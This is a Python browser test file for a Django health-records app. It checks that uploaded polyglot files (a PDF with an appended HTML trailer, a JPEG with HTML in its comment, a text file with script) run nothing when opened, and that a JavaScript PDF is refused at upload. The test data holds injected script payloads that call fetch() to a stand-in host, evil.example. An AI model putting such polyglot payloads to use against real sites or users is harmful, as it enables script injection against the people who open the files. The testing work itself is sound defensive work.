"""Hostile documents in a real Chromium: what they carry never runs.

A JPEG with HTML in its comment, a PDF with an HTML page after its end, a
text file full of <script>: each is accepted as its real type and opened the
way Marie opens it. No dialog opens, no request leaves for the attacker's
host. A PDF whose /OpenAction runs JavaScript is another matter: Chromium's
PDF viewer runs it whatever our sandbox policy says (a first version of this
test saw its two alerts), so it is refused at the upload, with its reason.
"""

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from espace_sante.access.policy import actor_for_user
from espace_sante.record.documents import services as record
from tests.record.conftest import make_pdf
from tests.reliability import hostile_files as hostile

pytestmark = pytest.mark.browser

DOCUMENTS = {
    "pdf-html-trailer": (
        "cr.pdf",
        lambda: make_pdf() + b"<html><script>alert('pdf');fetch('https://evil.example/p')</script>",
    ),
    "jpeg-html-comment": (
        "photo.jpg",
        lambda: hostile.jpeg(
            comment=b"<html><script>alert('jpeg');fetch('https://evil.example/j')</script>"
        ),
    ),
    "text-with-html": (
        "notes.txt",
        lambda: b"Notes\n<html><script>alert('texte');fetch('https://evil.example/t')</script>\n",
    ),
}


def _as_marie(browser_context, url, personas) -> None:
    """Marie's session, without typing her emailed code again (sign-in has its own tests)."""
    client = Client()
    client.force_login(personas.mother.user)
    browser_context.add_cookies(
        [
            {
                "name": settings.SESSION_COOKIE_NAME,
                "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": url,
            }
        ]
    )


@pytest.mark.parametrize("case", DOCUMENTS)
def test_a_hostile_document_opened_in_the_browser_runs_nothing(
    page,
    context,
    base_url,
    personas,
    private_keys_and_blobs,
    case,
):
    name, build = DOCUMENTS[case]
    document = record.add_document(
        actor_for_user(personas.mother.user),
        personas.mother,
        SimpleUploadedFile(name, build()),
        record.NewDocument(title="Document hostile", type_code="DOCPAT03", source="patient"),
    )
    _as_marie(context, base_url, personas)
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    context.on(
        "request",
        lambda request: outside.append(request.url) if "evil.example" in request.url else None,
    )
    url = f"{base_url}/documents/{document.id}/contenu/"
    # The headers as the browser receives them (a PDF navigation is answered by
    # the viewer, whose response object does not carry ours).
    headers = page.request.get(url).headers
    assert "sandbox" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-type"].split(";")[0] == document.mime_type
    try:
        page.goto(url)
    except Exception as refused:  # noqa: BLE001 - Chromium may refuse to show it at all
        print(
            f"\n[hostile] {case}: Chromium n'affiche pas le document ({refused.__class__.__name__})"
        )
    page.wait_for_timeout(1500)  # time for an /OpenAction or an inline script to fire
    assert dialogs == []
    assert outside == []


def test_a_pdf_that_runs_javascript_is_refused_in_the_upload_form(
    page,
    context,
    base_url,
    personas,
    private_keys_and_blobs,
    tmp_path,
):
    from playwright.sync_api import expect

    from espace_sante.record.documents.models import Document

    scripted = tmp_path / "cerfa.pdf"
    scripted.write_bytes(hostile.pdf_with_javascript())
    _as_marie(context, base_url, personas)
    page.goto(f"{base_url}/documents/ajouter/")
    page.get_by_label("Fichier").set_input_files(str(scripted))
    page.get_by_label("Titre").fill("Certificat")
    page.get_by_label("Catégorie").select_option(label="Comptes rendus")
    page.get_by_role("button", name="Ajouter le document").click()
    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("Ce PDF contient du code (JavaScript)")
    expect(alert).to_contain_text("Enregistrer au format PDF")
    assert Document.objects.count() == 0
